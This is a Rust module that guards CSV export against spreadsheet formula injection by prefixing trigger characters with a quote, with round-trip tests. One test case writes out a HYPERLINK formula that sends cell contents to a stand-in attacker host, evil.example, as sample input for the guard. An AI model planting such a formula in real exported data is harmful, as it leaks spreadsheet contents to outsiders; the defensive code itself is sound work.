//! Text cells a spreadsheet would evaluate. A CSV cell that begins with
//! `=`, `+`, `-`, `@`, TAB or CR is a formula to Excel, LibreOffice and
//! gnumeric (CSV injection, OWASP): export writes it behind a `'`, which
//! spreadsheets read as "text follows", and import takes that `'` off again,
//! so export → import → export gives the same bytes.
//!
//! The rule is a bijection: a value that already begins with quotes before
//! a trigger character gets one more quote, so removing one on import
//! always gives the value back. Any other text is written as it is.

use std::borrow::Cow;

/// Characters that make a spreadsheet evaluate a cell.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `text`, past any leading `'`, begins with a trigger character.
fn armed(text: &str) -> bool {
    text.trim_start_matches('\'').starts_with(TRIGGERS)
}

/// The cell text to write for `text`: `'` in front when a spreadsheet
/// would evaluate it (or when it is already so guarded).
pub fn guard(text: &str) -> Cow<'_, str> {
    if armed(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The value a guarded cell stands for: one `'` less when what follows it
/// would be evaluated; any other text unchanged.
pub fn unguard(text: &str) -> &str {
    match text.strip_prefix('\'') {
        Some(rest) if armed(rest) => rest,
        _ => text,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_guarded_and_come_back() {
        let cases = [
            ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", true),
            ("+1 555 0100", true),
            ("-2+3", true),
            ("@SUM(A1)", true),
            ("\tindented", true),
            ("\r=1", true),
            ("'=already quoted", true),
            ("''=twice", true),
            ("Amara", false),
            ("'quoted name", false),
            ("'", false),
            ("", false),
            ("O'Brien", false),
        ];
        for (value, guarded) in cases {
            let written = guard(value);
            assert_eq!(
                written.starts_with('\'') && written != value,
                guarded,
                "{value:?}"
            );
            assert_eq!(unguard(&written), value, "{value:?} round trip");
        }
    }

    #[test]
    fn a_guarded_cell_reads_as_text_to_a_spreadsheet() {
        assert_eq!(guard("=1+1"), "'=1+1");
        assert_eq!(guard("'=1+1"), "''=1+1");
        assert_eq!(unguard("'=1+1"), "=1+1");
        // A quote before plain text was never added by an export.
        assert_eq!(unguard("'hello"), "'hello");
    }
}
